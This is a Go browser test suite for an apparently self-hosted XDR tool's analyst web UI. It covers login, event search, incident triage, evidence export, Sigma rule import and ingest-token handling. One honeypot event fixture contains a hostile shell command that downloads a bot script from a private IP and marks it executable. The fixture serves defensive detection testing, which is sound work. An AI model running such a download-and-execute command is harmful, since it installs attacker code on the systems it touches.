package main

// Browser tests: what an analyst does in the web UI, in Debian's Chromium
// against the real binary (helpers in browser_helpers_test.go).

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/minixdr/xdr/internal/shareddata"
	"github.com/minixdr/xdr/internal/ziptest"
)

// browserEvents are the events the browser tests search: three old ones
// and, for the dashboard's default range, two from a minute ago.
func browserEvents(t testing.TB) []byte {
	recent := time.Now().UTC().Add(-time.Minute).Format(time.RFC3339)
	return ndjson(t,
		ev{"@timestamp": recent, "event.action": "ssh-login", "event.outcome": "failure",
			"user.name": "carol", "source.ip": "192.0.2.44", "host.name": "bastion", "message": "Failed password for carol"},
		ev{"@timestamp": recent, "event.action": "ssh-login", "event.outcome": "failure",
			"user.name": "carol", "source.ip": "192.0.2.44", "host.name": "bastion", "message": "Failed password for carol"},
		ev{"@timestamp": "2024-05-01T10:00:00Z", "event.action": "ssh-login", "event.outcome": "failure",
			"user.name": "alice", "source.ip": "203.0.113.7", "host.name": "web-1", "message": "Failed password for alice"},
		ev{"@timestamp": "2024-05-01T10:00:05Z", "event.action": "ssh-login", "event.outcome": "success",
			"user.name": "bob", "source.ip": "198.51.100.2", "host.name": "web-1", "message": "Accepted password for bob"},
		ev{"@timestamp": "2024-05-01T10:01:00Z", "event.action": "sudo", "event.outcome": "success",
			"user.name": "bob", "host.name": "db-1", "message": "bob : COMMAND=/bin/ls"},
	)
}

func TestBrowserLoginSearchLogout(t *testing.T) {
	t.Parallel()
	n := startNode(t)
	n.mustIngest(n.createToken("browser-sensor", "ingest"), browserEvents(t), ingestOpts{})
	b := newBrowser(t, n)

	// axe itself must see a violation where there is one, or every check
	// below would pass vacuously.
	b.do("open a broken page", chromedp.Navigate("data:text/html,<title>x</title><input type=text>"))
	if vs := b.axeViolations(); !slices.ContainsFunc(vs, func(v axeViolation) bool { return v.Impact == "critical" || v.Impact == "serious" }) {
		t.Fatalf("axe found no serious violation in a page with an unlabelled input and no lang: %+v", vs)
	}

	if st := b.open("/events"); st != 200 {
		t.Fatalf("open /events signed out: status %d", st)
	}
	if p := b.path(); !strings.HasPrefix(p, "/login") {
		t.Fatalf("signed out, /events went to %s, want the login page", p)
	}
	b.checkPage("login")
	b.checkNarrow("login")

	// A wrong password is shown in the page.
	b.fill("#username", "admin")
	b.fill("#password", "wrong-password")
	if st := b.submit("form[action='/login'] button[type=submit]"); st != 401 {
		t.Errorf("wrong password: status %d, want 401", st)
	}
	b.wantText("#login-error", "wrong user name or password")
	b.checkPage("login-error")

	b.login(n)
	if p := b.path(); p != "/dashboard" {
		t.Fatalf("after sign-in the browser is on %s, want /dashboard", p)
	}
	b.wantText("[aria-labelledby=top-user-name]", "carol")
	b.wantText("[aria-labelledby=top-source-ip]", "192.0.2.44")
	b.wantText(".chart .meta", "2 in total")
	b.checkPage("dashboard")
	b.checkKeyboard()
	b.checkNarrow("dashboard")

	// The theme switch: a form post, no script; it sticks across pages.
	b.submit(".theme button[value=dark]")
	if got := eval[string](b, "document.documentElement.dataset.theme || ''"); got != "dark" {
		t.Errorf("after choosing Dark, <html data-theme> is %q", got)
	}
	if p := b.path(); p != "/dashboard" {
		t.Errorf("the theme form returned to %s, want /dashboard", p)
	}
	b.checkPage("dashboard-dark-theme")
	b.submit(".theme button[value='']")
	if got := eval[string](b, "document.documentElement.dataset.theme || ''"); got != "" {
		t.Errorf("after choosing Auto, <html data-theme> is %q", got)
	}

	// A top entity links to its events.
	b.submit("[aria-labelledby=top-user-name] tbody a")
	b.wantText("table tbody", "Failed password for carol")

	b.open("/events")
	b.checkPage("events")
	b.checkNarrow("events")

	b.fill("#q", "user.name:alice")
	b.submit("form[role=search] button[type=submit]")
	if got := eval[int](b, "document.querySelectorAll('table tbody tr').length"); got != 1 {
		t.Fatalf("search user.name:alice shows %d rows, want 1", got)
	}
	b.wantText("table tbody", "Failed password for alice")
	b.checkPage("events-search")
	b.checkNarrow("events-search")

	b.follow("table tbody tr a", "/events/")
	b.wantText("main", "203.0.113.7")
	b.checkPage("event-detail")
	b.checkNarrow("event-detail")

	b.submit("form[action='/logout'] button")
	if p := b.path(); !strings.HasPrefix(p, "/login") {
		t.Fatalf("after logout the browser is on %s, want /login", p)
	}
	// The session ended on the server: the pages want a new sign-in.
	b.open("/events")
	if p := b.path(); !strings.HasPrefix(p, "/login") {
		t.Errorf("after logout /events went to %s, want the login page", p)
	}
}

// sigmaImportStages are the stages a running SigmaHQ import shows.
var sigmaImportStages = []string{"Starting", "Checking 3,754 rule files", "Storing the rules"}

// browserRulePack is a rule pack upload: one good rule, one broken.
var browserRulePack = map[string]string{
	"brute.yml": `title: Browser test brute force
id: 3e0b9f57-8a7c-4a51-9d55-2f1f0c6b8e11
status: test
logsource:
  product: linux
detection:
  selection:
    event.action: ssh-login
    event.outcome: failure
  condition: selection
level: low
tags:
  - attack.t1110
`,
	"broken.yml": "title: broken\ndetection: [\n",
}

// TestBrowserAnalystWorkflow: an incident from a honeypot command is
// triaged (status, assignee, comment), a rule pack is imported with its
// error report, an ingest token is created and revoked, and every page of
// the navigation passes the page checks.
func TestBrowserAnalystWorkflow(t *testing.T) {
	t.Parallel()
	n := startNode(t)
	tok := n.createToken("honeypot", "ingest")
	line := `{"eventid":"cowrie.command.input","input":"wget http://10.200.0.10/bot.sh; chmod +x bot.sh","sensor":"hp",` +
		`"timestamp":"` + time.Now().UTC().Add(-time.Minute).Format(time.RFC3339Nano) + `","src_ip":"10.200.0.2","session":"s1"}` + "\n"
	if st, _, b := n.mustDo("POST", "/api/v1/ingest/cowrie", tok, strings.NewReader(line), nil); st != 200 {
		t.Fatalf("ingest cowrie: %d %s", st, b)
	}
	b := newBrowser(t, n)
	b.login(n)

	// Every page of the navigation.
	for _, p := range []struct{ path, name string }{
		{"/incidents", "incidents"}, {"/alerts", "alerts"}, {"/rules", "rules"}, {"/attack", "attack"},
		{"/tokens", "tokens"}, {"/cluster", "cluster"}, {"/backups", "backups-empty"}, {"/nope", "not-found"},
	} {
		b.open(p.path)
		b.checkPage(p.name)
		b.checkNarrow(p.name)
	}

	// Open the incident and triage it.
	b.open("/incidents")
	b.follow("table tbody tr a", "/incidents/")
	b.wantText(".timeline", "wget http://10.200.0.10/bot.sh")
	b.checkPage("incident")
	b.checkNarrow("incident")
	b.do("set status", chromedp.SetValue(chromedp.CSS("#t-status"), "contained"))
	b.fill("#t-assignee", "alice")
	b.do("comment", chromedp.SendKeys(chromedp.CSS("#t-comment"), "Contained: host isolated.")) // an empty textarea
	b.submit("form.stack button[type=submit]")
	b.wantText("#incident-status", "contained")
	b.wantText("#incident-assignee", "alice")
	b.wantText(".comments", "Contained: host isolated.")
	b.checkPage("incident-triaged")

	// Export the incident's evidence through its progress page; the zip
	// downloaded from there matches its manifest.
	b.submit("form[action$='/evidence'] button[type=submit]")
	if p := b.path(); !strings.HasPrefix(p, "/jobs/") {
		t.Fatalf("Export evidence went to %s, want a job page", p)
	}
	b.waitVisible("#job-download", time.Minute)
	b.wantText("#job-done", "Done")
	b.checkPage("evidence-export")
	b.checkNarrow("evidence-export")
	ziptest.CheckEvidence(t, b.fetch(eval[string](b, "document.getElementById('job-download').href")))

	// Import a rule pack as a .zip: its page shows the report, the good
	// rule is stored, the broken one reported.
	pack := filepath.Join(t.TempDir(), "browser-pack.zip")
	if err := os.WriteFile(pack, ziptest.Zip(t, browserRulePack), 0o644); err != nil {
		t.Fatal(err)
	}
	b.importPack(pack)
	b.waitVisible("#report-title", time.Minute)
	if imported := b.wantImportReport(len(browserRulePack)); imported != 1 {
		t.Errorf("%d rules of the browser pack imported, want 1", imported)
	}
	b.wantText("#failed-caption ~ tbody", "browser-pack.zip/broken.yml")
	b.checkPage("rules-imported")
	b.submit("a.back")
	b.fill("#r-q", "Browser test")
	b.submit("form[action='/rules'] button[type=submit]")
	b.wantText("#rules-caption ~ tbody", "Browser test brute force")

	// A SigmaHQ release (3,754 files) takes seconds: while it runs its page
	// shows the progress, then the report, its refusals a page at a time.
	// On a fast machine the import may have ended before its page loads:
	// then the page shows the report at once, and only the running page's
	// checks are left out. The page's polls are held from before its
	// script runs, so that the job's end cannot reload the page under axe.
	// Then the held poll is answered with a progress of 5 of 10, which the
	// page shows in place (the next polls held still, so that the job's
	// real progress cannot replace it), and the next polls go to the
	// appliance until the job has ended and the page reloads with the
	// report.
	b.open("/rules")
	before := b.ruleCount()
	release := b.holdJobPolls()
	b.importPack(shareddata.Path(t, "testdata", "sigma", "sigma_rules.tar.gz"))
	if eval[bool](b, "document.querySelector('[data-status-url]') !== null") {
		t.Log("the SigmaHQ import was running when its page loaded")
		b.wantText("label[for=job-progress]", "Progress")
		if stage := b.text("#job-stage"); !slices.ContainsFunc(sigmaImportStages, func(s string) bool { return strings.HasPrefix(stage, s) }) {
			t.Errorf("the running import's stage is %q, want one of %q", stage, sigmaImportStages)
		}
		b.checkPage("rules-import-progress")
		b.checkNarrow("rules-import-progress")
		b.poll("the page polls its job", func() bool { return eval[int](b, "window.heldPolls.length") > 0 })
		b.do("answer the held poll", chromedp.Evaluate[chromedp.Void](
			`window.heldPolls.splice(0).forEach(p => p.res(new Response(JSON.stringify({running: true, stage: 'Storing the rules', done: 5, of: 10, text: '5 of 10 rules'}))))`))
		b.poll("the bar shows 5 of 10", func() bool {
			return eval[string](b, "(p => p ? p.value + '/' + p.max : '')(document.getElementById('job-progress'))") == "5/10"
		})
		b.wantText("#job-text", "5 of 10 rules")
		b.wantText("#job-stage", "Storing the rules")
		release() // a reload (on a failed poll, say) must not hold its polls again
		b.do("let the polls go", chromedp.Evaluate[chromedp.Void]("window.letPollsGo()"))
	} else {
		t.Log("the SigmaHQ import had ended when its page loaded: its running page is not checked this time")
		release()
	}
	b.waitVisible("#report-title", 2*time.Minute)
	b.wantText("#job-done", "Done")
	imported := b.wantImportReport(3754)
	b.wantText("#failed-caption", "page 1 of")
	b.checkPage("rules-import-sigmahq")
	b.checkNarrow("rules-import-sigmahq")
	b.open("/rules")
	b.wantText("#rules-caption", "page 1 of")
	if after := b.ruleCount(); after != before+imported {
		t.Errorf("%d rules after importing %d into %d", after, imported, before)
	}
	b.checkPage("rules-paged")

	// Create an ingest token, see it once, use it, revoke it.
	b.open("/tokens")
	b.fill("#token-name", "browser-fw")
	b.submit("form[action='/tokens'] button[type=submit]")
	secret := b.text("#new-token")
	b.checkPage("token-created")
	if res := n.mustIngest(secret, browserEvents(t), ingestOpts{}); res.Accepted == 0 {
		t.Fatal("the new token ingested nothing")
	}
	b.submit("button[aria-label='Revoke token browser-fw']")
	b.wantText(".notice", "browser-fw was revoked")
	if st, _, _, _ := n.ingest(secret, browserEvents(t), ingestOpts{}); st != 401 {
		t.Errorf("ingest with the revoked token: %d, want 401", st)
	}
}
